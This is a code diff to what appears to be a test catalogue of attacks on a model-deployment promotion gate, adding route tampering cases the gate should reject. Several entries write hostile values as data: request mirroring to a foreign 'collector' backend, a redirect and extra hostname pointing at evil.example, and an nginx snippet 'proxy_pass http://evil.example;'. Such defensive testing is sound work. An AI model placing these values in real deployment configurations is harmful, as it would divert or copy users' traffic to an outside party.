@@ -17,10 +17,13 @@ from goldenpath.attacks.holders.deployment_step import (
     THREE,
     TWO,
     RightsAttack,
+    added,
     brought,
     edited,
     recorded,
+    reformed,
     removed,
+    rerouted,
     sealed_platform,
     shared,
     steps,
@@ -29,6 +32,7 @@ from goldenpath.attacks.holders.deployment_step import (
 from goldenpath.attacks.holders.restriction_attacks import CONTROLS as OF_RESTRICTIONS
 from goldenpath.attacks.holders.restriction_attacks import restriction_attacks
 from goldenpath.attacks.holders.way_in_attacks import WAYS_IN, way_in_attacks
+from goldenpath.canonical import JsonValue
 from goldenpath.digest import Digest
 from goldenpath.promote.manifests.commit_rights import FileStep, lone_refusal, machine_refusal
 from goldenpath.promote.manifests.desired import Rollout
@@ -41,7 +45,7 @@ MACHINE, LONE, PEOPLE, ROLES, TWO_ROLES = (
     "rights of the machine", "rights of one person", "limits of people", "limits of roles",
     "roles of two people",
 )  # fmt: skip
-Step = Callable[[], FileStep]
+Step = Callable[..., FileStep]
 _STABLE = ("spec", "predictor")
 _SETTINGS: Mapping[str, Step] = {
     "a thousand servers": partial(edited, *_STABLE, "minReplicas", value=1000),
@@ -82,11 +86,53 @@ _OF_THE_MACHINE: Mapping[str, Step] = {
 _OF_ONE: Mapping[str, Step] = {
     "an approval that was not given": partial(recorded, approvals=(*CANARY.approvals, THREE)),
 }
+_BACKENDS = ("spec", "rules", 0, "backendRefs")
+_ELSEWHERE: JsonValue = {"name": "collector", "namespace": "theirs", "port": 80, "weight": 0}
+_ROUTES: Mapping[str, Step] = {
+    "a weight that the plan does not have": partial(rerouted, *_BACKENDS, 1, "weight", value=30),
+    "weights that are not whole": partial(rerouted, *_BACKENDS, 0, "weight", value=0),
+    "another host": partial(rerouted, "spec", "hostnames", 0, value="fraud.prod.models.internal"),
+    "one more host of its own": partial(rerouted, "spec", "hostnames",
+        value=["credit-default.prod.models.internal", "credit-default.prod.evil.example"]),
+    "another gateway": partial(rerouted, "spec", "parentRefs", 0, "name", value="outside"),
+    "a backend elsewhere": partial(rerouted, *_BACKENDS, 1, value=_ELSEWHERE),
+    "a backend that is no release": partial(rerouted, *_BACKENDS, 1, "name", value="collector"),
+    "copies of requests for somebody else": partial(rerouted, "spec", "rules", 0, "filters",
+        value=[{"type": "RequestMirror", "requestMirror": {"backendRef":
+            {"name": "collector", "namespace": "theirs", "port": 80}}}]),
+    "a redirect": partial(rerouted, "spec", "rules", 0, "filters",
+        value=[{"type": "RequestRedirect", "requestRedirect": {"hostname": "evil.example"}}]),
+    "another path": partial(rerouted, "spec", "rules", 0, "matches", 0, "path", "value",
+        value="/v2/models/other"),
+    "a second rule": partial(rerouted, "spec", "rules", value=[]),
+    "the configuration of a gateway": partial(rerouted, "metadata", "annotations",
+        "nginx.org/server-snippets", value="proxy_pass http://evil.example;"),
+    "labels of a route": partial(rerouted, "metadata", "labels", value={"team": "mine"}),
+    "an earlier wave of a route": partial(rerouted, "metadata", "annotations",
+        "argocd.argoproj.io/sync-wave", value="-1"),
+    "a later wave of a service": partial(edited, "metadata", "annotations",
+        "argocd.argoproj.io/sync-wave", value="2"),
+    "another runtime": partial(edited, *_STABLE, "model", "runtime", value="theirs"),
+    "a service that no route names": partial(added, "credit-default-00000000.yaml"),
+    "a service of another model": partial(added, "fraud-00000000.yaml"),
+    "the old form beside the route": partial(added, "inferenceservice.yaml"),
+    "the form with a route": partial(reformed, "routed"),
+    "the form of one service": partial(reformed, "single"),
+}  # fmt: skip
 _PLACES: Mapping[str, Step] = {"no file at all": removed, "a file that nobody can read": unreadable}
 
 
 def _by(who: str, *rows: Mapping[str, Step]) -> dict[str, Step]:
-    return {f"{who} writes {what}": step for each in rows for what, step in each.items()}
+    """Return the attacks in both forms of files, and those on routes."""
+    both = {what: step for each in rows for what, step in each.items()}
+    return {
+        **{f"{who} writes {what}": step for what, step in both.items()},
+        **{
+            f"{who} writes {what}, all in one service": partial(step, form="single")
+            for what, step in both.items()
+        },
+        **{f"{who} writes {what}": step for what, step in _ROUTES.items()},
+    }
 
 
 def _of_people(models: tuple[str, ...], without: frozenset[str]) -> str:
